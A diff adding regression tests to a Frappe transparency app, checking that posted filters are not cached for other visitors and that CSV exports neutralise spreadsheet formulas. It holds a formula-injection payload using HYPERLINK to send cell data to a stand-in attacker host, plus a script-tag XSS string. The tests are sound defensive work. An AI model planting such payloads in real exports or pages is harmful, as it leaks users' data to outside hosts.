@@ -154,6 +154,41 @@ class TestPublicOutputsLeakNothing(TransparencyCase):
 		self.assertIn("<script>alert(1)</script>", csv)  # CSV is data, not markup: the title as written
 
 
+class TestPublicOutputsCannotBeTampered(FrappeTestCase):
+	"""What one visitor sends never becomes what the next one reads, and a title is data in the CSV,
+	never a formula."""
+
+	@classmethod
+	def setUpClass(cls):
+		super().setUpClass()
+		cls.funded = f.approved("Funded by A _test")
+		frappe.db.set_single_value("TA Transparency Settings", "public_page_enabled", 1)
+		frappe.db.commit()
+
+	def test_a_posted_filter_is_never_stored_as_the_page_every_guest_gets(self):
+		T.clear_public_cache()
+		frappe.db.commit()
+		posted = f.rest("POST", "/transparency", data={"donor": "URGENT: this report is withdrawn"})
+		self.assertLess(posted.status_code, 500)
+		for _ in range(2):  # the first plain GET stores the page, the second is served from it
+			plain = f.rest("GET", "/transparency").get_data(as_text=True)
+			self.assertNotIn("URGENT", plain)
+			self.assertNotIn('role="alert"', plain)
+		T.clear_public_cache()
+		frappe.db.commit()
+		f.rest("POST", "/transparency", data={"donor": "Donor A _test"})
+		self.assertNotIn('value="Donor A _test" selected', f.rest("GET", "/transparency").get_data(as_text=True))
+
+	def test_a_title_that_looks_like_a_formula_is_text_in_the_csv(self):
+		frappe.db.set_value("TA Programme", self.funded, "title_fr", '=HYPERLINK("http://evil.example/?"&A1,"x")')
+		frappe.db.commit()
+		T.clear_public_cache()
+		text = f.rest("GET", "/api/method/ta_programmes.api.transparency.public_csv?_lang=fr").get_data(as_text=True)
+		self.assertIn("'=HYPERLINK", text)
+		self.assertNotIn(',"=HYPERLINK', text)
+		self.assertFalse(any(line.startswith("=") for line in text.splitlines()))
+
+
 class TestIatiFile(TransparencyCase):
 	def test_iati_endpoint_validates_against_the_official_schema_and_holds_nothing_confidential(self):
 		import importlib.util
